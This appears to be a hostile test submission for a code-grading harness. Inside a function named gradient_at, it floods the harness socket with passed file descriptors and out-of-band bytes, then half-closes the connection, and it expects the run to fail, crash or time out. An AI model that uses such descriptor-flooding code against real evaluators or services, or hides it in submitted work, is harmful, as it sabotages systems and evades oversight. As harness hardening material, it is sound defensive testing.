# attack: send out-of-band data and descriptors along the line, half-close it, and answer with all of that pending
# verdict: failed, crashed, timeout
import array
import os
import socket

line = socket.socket(fileno=os.dup(3))


def gradient_at(x, y):
    null = [os.open("/dev/null", os.O_RDWR) for _ in range(100)]
    ends = [end.detach() for _ in range(30) for end in socket.socketpair()]
    for _ in range(50):
        try:
            line.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", null + ends))])
            line.send(b"\0", socket.MSG_OOB)
        except OSError:
            break
    line.shutdown(socket.SHUT_WR)
    return 1.0, 1.0
